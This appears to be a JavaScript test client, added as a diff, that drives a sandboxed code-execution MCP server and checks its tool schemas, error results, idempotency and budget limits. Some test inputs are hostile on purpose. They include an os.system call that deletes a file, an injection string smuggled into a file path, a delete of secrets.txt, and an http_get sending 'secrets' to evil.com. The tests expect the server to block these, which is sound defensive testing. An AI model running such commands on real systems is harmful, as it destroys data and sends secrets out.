@@ -1,0 +1,179 @@
+// mcp_client.mjs -- sandboxrepl --mcp driven by the official MCP TypeScript
+// SDK's client, as an agent host drives it: spawned over stdio, initialize
+// negotiated by the SDK, tools listed, tools called.  Run by tests/mcp.test:
+//
+//   node mcp_client.mjs NODE_MODULES SANDBOXREPL
+//
+// NODE_MODULES is where `npm ci` in tests/ put the SDK (given as a
+// directory, so the release tarball's test can use the source tree's).
+// Prints one "ok - " or "not ok - " line per check; exits 1 when one failed.
+import { pathToFileURL } from 'node:url';
+import path from 'node:path';
+
+const [modules, bin] = process.argv.slice(2);
+const sdk = path.join(modules, '@modelcontextprotocol', 'sdk', 'dist', 'esm');
+const load = (p) => import(pathToFileURL(path.join(sdk, p)).href);
+const { Client } = await load('client/index.js');
+const { StdioClientTransport } = await load('client/stdio.js');
+const { LATEST_PROTOCOL_VERSION } = await load('types.js');
+
+let failed = 0;
+function check(name, cond, detail) {
+	if (cond) {
+		console.log(`ok - ${name}`);
+	} else {
+		failed++;
+		console.log(`not ok - ${name}`);
+		if (detail !== undefined)
+			console.log(`# ${JSON.stringify(detail)}`);
+	}
+}
+
+async function connect(args) {
+	const transport = new StdioClientTransport({
+		command: bin, args: ['--mcp', ...args], stderr: 'inherit',
+	});
+	const client = new Client({ name: 'sandboxrepl-test', version: '1.0.0' });
+	// the SDK tells a transport that asks the revision it negotiated
+	transport.setProtocolVersion = (v) => { transport.negotiated = v; };
+	await client.connect(transport);
+	return { client, transport };
+}
+
+const text = (r) => (r.content ?? []).map((c) => c.text).join('\n');
+
+// ---- the default server: every path, the essay's seed ----
+const { client, transport } = await connect([]);
+check('initialize: the server says who it is',
+    client.getServerVersion()?.name === 'sandboxrepl', client.getServerVersion());
+check(`initialize: the SDK's revision (${LATEST_PROTOCOL_VERSION}) is the one negotiated`,
+    transport.negotiated === LATEST_PROTOCOL_VERSION, transport.negotiated);
+check('initialize: the server offers tools',
+    client.getServerCapabilities()?.tools !== undefined);
+
+const { tools } = await client.listTools();
+const names = tools.map((t) => t.name).sort();
+check('tools/list: the six tools',
+    JSON.stringify(names) === JSON.stringify(['delete_file', 'http_get',
+	'list_files', 'read_file', 'run_code', 'write_file']), names);
+check('tools/list: every tool has an object inputSchema and outputSchema',
+    tools.every((t) => t.inputSchema?.type === 'object' &&
+	t.outputSchema?.type === 'object' && t.description.length > 0));
+const byName = Object.fromEntries(tools.map((t) => [t.name, t]));
+check('tools/list: run_code takes code and a path, sandbox by default',
+    JSON.stringify(byName.run_code.inputSchema.required) === '["code"]' &&
+    byName.run_code.inputSchema.properties.path.default === 'sandbox' &&
+    byName.run_code.inputSchema.properties.path.enum.includes('jail'),
+    byName.run_code.inputSchema);
+check('tools/list: write_file needs path and text, idempotency_key optional',
+    JSON.stringify(byName.write_file.inputSchema.required) ===
+	'["path","text"]' &&
+    byName.write_file.inputSchema.properties.idempotency_key?.type === 'string',
+    byName.write_file.inputSchema);
+check('tools/list: list_files takes no arguments',
+    Object.keys(byName.list_files.inputSchema.properties).length === 0);
+
+const call = (name, args) => client.callTool({ name, arguments: args });
+
+let r = await call('run_code', { code: 'round(sum(orders) / len(orders), 2)' });
+check('run_code: the average order value is 173.33',
+    r.isError === false && r.structuredContent?.result === '173.33' &&
+    r.content[0].text.endsWith('-> 173.33') &&
+    r.structuredContent.path === 'sandbox', r);
+
+r = await call('run_code', { code: "__import__('os').system('rm report.txt')" });
+check('run_code: os.system is an error result that says BLOCKED',
+    r.isError === true && text(r).includes('BLOCKED') &&
+    r.structuredContent?.verdict === 'blocked' &&
+    r.structuredContent.layer === 'allowlist', r);
+check('run_code: the blocked call left report.txt',
+    r.structuredContent?.fs.includes('report.txt'), r.structuredContent);
+
+const w = { path: 'out.txt', text: 'ok' };
+const w1 = await call('write_file', w);
+const w2 = await call('write_file', w);
+check('write_file: the first write writes',
+    w1.isError === false && w1.content[0].text.endsWith('-> wrote out.txt') &&
+    w1.structuredContent.effects.length === 1 &&
+    w1.structuredContent.effects[0].op === 'write', w1);
+check('write_file: the same write again is answered from the ledger',
+    w2.isError === false && w2.structuredContent.layer === 'idempotency' &&
+    w2.structuredContent.effects.length === 0 &&
+    text(w2).includes('idempotent: already done'), w2);
+r = await call('write_file', { path: 'out.txt', text: 'other', idempotency_key: 'k1' });
+const r2 = await call('write_file', { path: 'out.txt', text: 'changed', idempotency_key: 'k1' });
+check('write_file: a key reused with other arguments is refused',
+    r.isError === false && r2.isError === true &&
+    r2.structuredContent.layer === 'idempotency', r2);
+
+r = await call('read_file', { path: 'out.txt' });
+check('read_file: the file the tools wrote, in the session that lives on',
+    r.isError === false && r.structuredContent.result === "'other'", r);
+
+r = await call('read_file', { path: "x'}); __import__('os').system('rm report.txt'); ('" });
+check('an argument cannot leave its string literal',
+    r.isError === true && r.structuredContent.kind === 'command' &&
+    r.structuredContent.layer === 'eval' && text(r).includes('FileNotFoundError') &&
+    r.structuredContent.fs.includes('report.txt'), r);
+
+r = await call('delete_file', { path: 'secrets.txt' });
+check('delete_file: refused by the command allowlist',
+    r.isError === true && r.structuredContent.layer === 'commands' &&
+    text(r).includes("command 'delete_file' not on the allowlist"), r);
+
+r = await call('http_get', { url: 'https://evil.com/x', body: 'secrets' });
+check('http_get: refused on the sandbox path',
+    r.isError === true && r.structuredContent.verdict === 'blocked', r);
+
+r = await call('run_code', { code: 'delete_file({"path": "secrets.txt"})', path: 'unsafe' });
+check('run_code on the unsafe path: the delete happens (simulated), no error',
+    r.isError === false && r.structuredContent.path === 'unsafe' &&
+    r.structuredContent.verdict === 'simulated' &&
+    !r.structuredContent.fs.includes('secrets.txt'), r);
+
+r = await call('run_code', { code: 'sum(orders) * 2', path: 'jail' });
+check('run_code on the jail path: 1040.0',
+    r.isError === false && r.structuredContent.path === 'jail' &&
+    r.structuredContent.result === '1040.0', r);
+
+r = await call('run_code', { code: '1 / 0' });
+check('run_code: an exception is an error result naming it',
+    r.isError === true && r.structuredContent.verdict === 'error' &&
+    text(r).includes('ZeroDivisionError'), r);
+
+r = await call('read_file', { path: 5 });
+check('a wrong argument type is an error result the model can read',
+    r.isError === true && text(r).includes("'path' must be a string"), r);
+
+r = await call('read_file', { file: 'report.txt' });
+check('an unknown argument is an error result naming the keys',
+    r.isError === true && text(r).includes("unknown argument 'file'"), r);
+
+try {
+	await call('rm_rf', {});
+	check('an unknown tool is a protocol error (-32602)', false);
+} catch (e) {
+	check('an unknown tool is a protocol error (-32602)', e.code === -32602, e.message);
+}
+
+await client.ping();
+check('ping is answered', true);
+await client.close();
+
+// ---- --path and --budget apply as on the command line ----
+const c2 = await connect(['--path=sandbox', '--budget=1']);
+const t2 = (await c2.client.listTools()).tools;
+check('--path=sandbox: run_code offers only the sandbox path',
+    JSON.stringify(t2.find((t) => t.name === 'run_code').inputSchema
+	.properties.path.enum) === '["sandbox"]');
+r = await c2.client.callTool({ name: 'run_code', arguments: { code: '1', path: 'jail' } });
+check('--path=sandbox: the jail path is an error result',
+    r.isError === true && text(r).includes('not one this server offers'), r);
+r = await c2.client.callTool({ name: 'run_code', arguments: { code: 'sum(orders)' } });
+const r3 = await c2.client.callTool({ name: 'run_code', arguments: { code: 'sum(orders)' } });
+check('--budget=1: the second operation is blocked by the budget',
+    r.isError === false && r3.isError === true &&
+    r3.structuredContent.layer === 'budget', r3);
+await c2.client.close();
+
+process.exit(failed ? 1 : 0);
